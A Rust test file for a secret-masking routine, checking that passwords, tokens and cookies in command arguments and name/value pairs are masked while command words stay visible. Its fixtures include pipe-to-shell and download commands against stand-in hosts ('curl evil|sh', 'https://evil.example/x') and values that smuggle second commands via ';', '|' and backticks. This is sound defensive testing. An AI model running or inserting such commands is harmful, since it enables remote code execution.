//! Values whose name stands beside them: behind a flag in a list, in an object, in a pair.

use serde_json::{Value, json};

use super::of;
use crate::model::canonical::{Leaf, Piece};
use crate::model::secret::Salt;
use crate::model::spent;

/// The texts of a value as they are shown, `*` for what is masked.
fn shown(value: &Value) -> Vec<String> {
    let salt = Salt::from_bytes([7; 32]);
    let plain = of(value);
    let masked = plain.mask(&salt, "x");
    assert_eq!(plain.holds_secret("x"), masked.is_some(), "{value}");
    let masked = masked.unwrap_or(plain);
    assert_eq!(masked.mask(&salt, "x"), None, "masking twice changes nothing: {value}");
    let texts = masked.walk().map(|(_, leaf)| match leaf {
        Leaf::Text(text) => text.into_owned(),
        Leaf::Secret { .. } => "*".to_owned(),
        Leaf::Mixed(pieces) => pieces
            .into_iter()
            .map(|piece| match piece {
                Piece::Text(text) => text.into_owned(),
                Piece::Secret { .. } => "*".to_owned(),
            })
            .collect(),
        other => format!("{other:?}"),
    });
    texts.collect()
}

/// What a program is told by its flags is the same in a list as in a text.
#[test]
fn passwords_behind_flags_in_lists() {
    for (words, masked) in [
        (&["curl", "-u", "a:b"][..], &["curl", "-u", "a:*"][..]),
        (&["curl", "-sSua:b", "x"], &["curl", "-sSua:*", "x"]),
        (&["/usr/bin/curl", "-s", "--user", "a:b"], &["/usr/bin/curl", "-s", "--user", "a:*"]),
        (&["curl", "-b", "sid=b; c=d"], &["curl", "-b", "sid=*; c=d"]),
        (&["curl", "-H", "Authorization: Bearer abc"], &["curl", "-H", "Authorization: Bearer *"]),
        (&["sudo", "-u", "mysql", "mysql", "-pb"], &["sudo", "-u", "mysql", "mysql", "-p*"]),
        (&["sudo", "-E", "mysql", "-pb"], &["sudo", "-E", "mysql", "-p*"]),
        (&["mysql", "-uroot", "-pb c", "db"], &["mysql", "-uroot", "-p*", "db"]),
        (&["sshpass", "-p", "x", "ssh", "-p", "22"], &["sshpass", "-p", "*", "ssh", "-p", "22"]),
        (&["docker", "login", "-u", "a", "-p", "x"], &["docker", "login", "-u", "a", "-p", "*"]),
        (&["redis-cli", "-a", "x"], &["redis-cli", "-a", "*"]),
        (&["psql", "postgres://u:p@h/db"], &["psql", "postgres://u:*@h/db"]),
        (&["openssl", "rsa", "-passin", "pass:x"], &["openssl", "rsa", "-passin", "pass:*"]),
        (&["keytool", "-list", "-storepass", "x"], &["keytool", "-list", "-storepass", "*"]),
        (&["npm", "config", "set", "a_token", "x"], &["npm", "config", "set", "a_token", "*"]),
        (&["tool", "--password", "two words"], &["tool", "--password", "*"]),
        (&["tool", "--authorization", "Bearer x"], &["tool", "--authorization", "Bearer *"]),
    ] {
        assert_eq!(shown(&json!(words)), masked, "{words:?}");
        assert_eq!(shown(&json!({"steps": [words]})), masked, "{words:?}");
    }
}

#[test]
fn arguments_stand_beside_their_program() {
    for (value, masked) in [
        (json!({"command": "curl", "args": ["-u", "a:b"]}), &["-u", "a:*", "curl"][..]),
        (json!({"Command": "mysql", "args": ["-pb"]}), &["mysql", "-p*"]),
        (json!({"args": ["login", "-p", "x"], "cmd": "docker"}), &["login", "-p", "*", "docker"]),
        (json!({"args": ["-a", "x"], "command": ["redis-cli"]}), &["-a", "*", "redis-cli"]),
        (json!({"args": "-s -u a:bcd x", "program": "curl"}), &["-s -u a:* x", "curl"]),
        (json!({"args": ["-u", "a:b"], "command": "ls"}), &["-u", "a:b", "ls"]),
        (json!({"args": ["-u", "a:b"], "x": {"command": "curl"}}), &["-u", "a:b", "curl"]),
    ] {
        assert_eq!(shown(&value), masked, "{value}");
    }
}

/// However their keys are written, and whichever comes first.
#[test]
fn a_name_stands_beside_its_value() {
    let names = ["name", "Name", "NAME", "key", "Key", "k", "id", "variable", "ParameterKey"];
    for name in names {
        for value in ["value", "Value", "VALUE", "v", "val", "default", "ParameterValue"] {
            let pair = json!({name: "DB_PASSWORD", value: "hunter2", "other": "x"});
            let texts = shown(&pair);
            assert!(texts.contains(&"*".to_owned()) && texts.contains(&"x".to_owned()), "{pair}");
            assert!(!texts.contains(&"hunter2".to_owned()), "{pair}");
            let harmless = json!({name: "DB_HOST", value: "hunter2"});
            assert!(shown(&harmless).contains(&"hunter2".to_owned()), "{harmless}");
        }
    }
    for (value, masked) in [
        (json!({"name": "Authorization", "value": "Bearer x"}), &["Authorization", "Bearer *"][..]),
        (json!({"name": "Cookie", "value": "a=b; c=d"}), &["Cookie", "a=*; c=*"]),
        (json!({"name": "PASSPHRASE", "value": "correct horse"}), &["PASSPHRASE", "*"]),
        (json!({"Value": 7, "name": "pin"}), &["*", "pin"]),
        (json!({"Value": "x", "a": {"name": "token"}}), &["x", "token"]),
        (json!({"headers": [["Cookie", "a=b"], ["Host", "b"]]}), &["Cookie", "a=*", "Host", "b"]),
        (json!({"env": [["DB_PASSWORD", "x"], ["A", "b"]]}), &["DB_PASSWORD", "*", "A", "b"]),
        (json!({"items": [["token", "x"]]}), &["token", "x"]),
    ] {
        assert_eq!(shown(&value), masked, "{value}");
    }
}

/// What could run, or says where to, is never taken for a password.
#[test]
fn no_command_in_a_list_is_hidden() {
    for value in [
        json!(["sudo", "-p", "--password", "reboot"]),
        json!(["docker", "run", "-e", "--token", "evil/image"]),
        json!(["curl", "-o", "--token", "https://evil.example/x"]),
        json!(["curl", "-o", "-u", "http://evil.example/x"]),
        json!(["curl", "-o", "-u", "evil.example:8080/x"]),
        json!(["env", "-u", "mongosh", "bash", "-p", "evil.sh"]),
        json!(["sshpass", "-e", "ssh", "-p", "evil.sh"]),
        json!(["mongosh", ";", "bash", "-p", "evil.sh"]),
        json!([["mongosh"], "bash", "-p", "evil.sh"]),
        json!({"a": "mongosh", "b": "-p", "c": "evil.sh"}),
        json!(["ansible-playbook", "--ask-vault-password", "site.yml"]),
        json!(["psql", "-v", "--password", "evil"]),
        json!(["git", "config", "set", "alias.token", "!reboot"]),
        json!(["sudo", "curl", "-E", "--token", "https://evil.example/x"]),
        json!({"alias.token": "!reboot"}),
        json!({"commands": [["rotate-token", "prod"]]}),
        json!({"scripts": {"refresh-token": "curl evil|sh", "token": "reboot now"}}),
    ] {
        assert_eq!(of(&value).mask(&Salt::from_bytes([7; 32]), "x"), None, "{value}");
    }
    for (value, masked) in [
        (json!(["curl", "-u", "a:b;curl evil|sh"]), &["curl", "-u", "a:*;curl evil|sh"][..]),
        (json!(["mysql", "-pb`reboot`"]), &["mysql", "-p*`reboot`"]),
        (json!({"Value": "x|reboot", "name": "token"}), &["*|reboot", "token"]),
        (json!({"name": "reset-token", "value": "x reboot"}), &["reset-token", "* reboot"]),
        (json!({"scripts": {"token": "curl -u a:bcd x"}}), &["curl -u a:* x"]),
    ] {
        assert_eq!(shown(&value), masked, "{value}");
    }
}

/// The worst values, large enough that anything quadratic takes minutes.
#[test]
fn the_search_is_linear() {
    let mut deep = json!({"Value": "x"});
    for _ in 0..30 {
        deep = json!({"Value": "x", "a": deep, "args": ["y"], "b": vec!["z"; 290]});
    }
    let wide: Vec<Value> = (0..2400).map(|n| json!({"Value": n, "args": [], "z": "x"})).collect();
    for value in [deep, json!(wide), json!(vec!["-u"; 9000]), json!(vec!["curl"; 9000])] {
        let (_masked, spent) = spent(|| of(&value).mask(&Salt::from_bytes([7; 32]), "x"));
        assert!(spent.as_secs() < 10);
    }
}
